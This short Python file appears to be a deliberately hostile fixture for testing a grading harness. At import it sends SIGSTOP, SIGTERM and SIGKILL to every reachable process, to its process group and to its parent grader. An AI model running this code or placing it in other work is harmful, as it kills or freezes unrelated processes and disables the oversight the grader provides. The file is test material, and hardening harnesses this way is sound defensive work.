"""Hostile: signals every process it can reach (kill -1, its process group, its parent, the marked
grader), with SIGKILL, SIGTERM and SIGSTOP, at import. Implements nothing: expected 0."""
import os
import signal

for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for action in (lambda: os.kill(-1, sig), lambda: os.killpg(0, sig), lambda: os.kill(os.getppid(), sig)):
        try:
            if sig != signal.SIGKILL or os.getppid() > 1:
                action()
        except (OSError, ValueError):
            pass
